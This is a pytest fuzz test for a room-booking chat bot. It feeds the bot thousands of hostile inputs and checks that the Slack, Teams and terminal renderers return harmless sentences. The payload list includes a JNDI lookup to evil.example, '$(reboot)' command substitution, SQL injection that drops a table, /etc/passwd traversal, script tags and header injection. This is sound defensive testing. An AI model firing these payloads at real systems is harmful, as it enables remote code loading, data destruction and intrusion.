"""Three thousand hostile lines: each gets a helpful sentence, and nothing in it comes alive."""

from __future__ import annotations

import itertools
import json
import random
import re
from typing import Any

import pytest

from adapters.console.render import render as in_terminal
from adapters.slack.render import render as in_slack
from adapters.teams.render import render as in_teams
from bot.reply import Outcome, Reply

PAYLOADS = (
    "<!channel>", "<!here|here>", "<!everyone>", "@everyone", "@here", "<@U0123ABC>", "<#C0123ABC>",
    "<https://evil.example|click>", "https://evil.example/x", "[click](https://evil.example)",
    "<at>Everyone</at>", "{{DATE(2026-01-01T00:00:00Z, SHORT)}}", "![x](https://evil.example/p.png)",
    "*bold* _it_ ~no~ `code`", "```", "> quote", "# title", "<script>alert(1)</script>",
    "{0}{1}{text}", "%s%n%x", "${jndi:ldap://evil.example/a}", "{{7*7}}", "$(reboot)", "`reboot`",
    "'; DROP TABLE audit; --", "\" OR 1=1 --", "Robert'); --", "\\", "\\\\x00", "../../etc/passwd",
    "\x00", "\x1b[2J\x1b[31mred", "\r\nHost: evil", "\t\v\f", "\u202eabc", "\u2066x\u2069",
    "\ufeff", "\ud800", "\udfff", "👩‍💻🏳️‍🌈", "\U0001f4a9" * 50, "חדר ישיבות", "غرفة الاجتماعات",
    "\"nested \"quotes\" here\"", "“curly”", "''''''", "\"" * 99, "(" * 200, "[" * 200, "9" * 5000,
    "-1", "1e309", "NaN", "٣ people", "０８:３０", "14:00" * 50, "for for for", "in in in",
    "99999999999 people", "floor " + "9" * 400, "page 999999", "a" * 3000, "a " * 1500, "\n" * 500,
)  # fmt: skip
FRAMES = (
    "{}", "rooms free {}", "rooms free in {}", "rooms free with {}", "rooms free 2pm {}",
    "rooms free {} 2pm", "rooms free floor {}", "rooms free for {}", 'rooms free in "{}"',
    "rooms show {}", "rooms show {} tomorrow", "rooms list {}", "rooms list in {}", "help {}",
    "/rooms {}", "/roomops {}", "roomops rooms free {} people", "{} rooms free", "rooms {} free",
)  # fmt: skip
COUNT = 3000


def lines() -> list[str]:
    made = [frame.replace("{}", payload) for frame in FRAMES for payload in PAYLOADS]
    dice = random.Random(20261123)
    while len(made) < COUNT:
        parts = dice.sample(PAYLOADS, 3)
        made.append(dice.choice(FRAMES).replace("{}", " ".join(parts)))
    return made[:COUNT]


MEGABYTES = ("x" * 3_000_000, "rooms free " + "🏢" * 1_000_000, "rooms free " + "in " * 1_000_000)

LIVE_IN_SLACK = re.compile(r"<(!|@|#|https?:|mailto:)(?!date\^)")
LIVE_IN_TEAMS = re.compile(r"<at>|\]\(http|\{\{(DATE|TIME)\(2026-01-01")


def dead_everywhere(reply: Reply) -> None:
    slack = json.dumps(shown(in_slack(reply)), ensure_ascii=False)
    slack.encode("utf-8")
    assert not LIVE_IN_SLACK.search(slack), slack[:300]
    card = json.dumps(in_teams(reply), ensure_ascii=False)
    card.encode("utf-8")
    text = in_terminal(reply, width=80, colour=False)
    assert "\x1b" not in text
    text.encode("utf-8")


def shown(part: Any) -> Any:
    """What a reader sees: a button's value goes back to us unread."""
    if isinstance(part, dict):
        return {key: shown(value) for key, value in part.items() if key != "value"}
    return [shown(each) for each in part] if isinstance(part, list) else part


def sentence(reply: Reply) -> bool:
    return bool(reply.blocks) and "went wrong on my side" not in str(reply)


@pytest.mark.timeout(240)
def test_every_hostile_line_gets_a_sentence_and_never_comes_alive(talk_contoso):
    talk_contoso("rooms list")
    outcomes = set()

    for line in itertools.chain(lines(), MEGABYTES):
        talk_contoso(line)
        reply = talk_contoso.reply
        assert sentence(reply), line[:200]
        dead_everywhere(reply)
        outcomes.add(reply.outcome)

    assert outcomes >= {Outcome.ANSWERED, Outcome.MISUNDERSTOOD}


@pytest.mark.parametrize("name", PAYLOADS[:24])
def test_a_room_with_a_hostile_name_is_just_a_room_with_a_silly_name(tenant, talk, name):
    tenant.room(name, address="silly@contoso.example", city=name, tags=(name,))

    for line in ("rooms free 2pm", "rooms list", "rooms show silly@contoso.example"):
        talk(line)
        assert sentence(talk.reply)
        dead_everywhere(talk.reply)
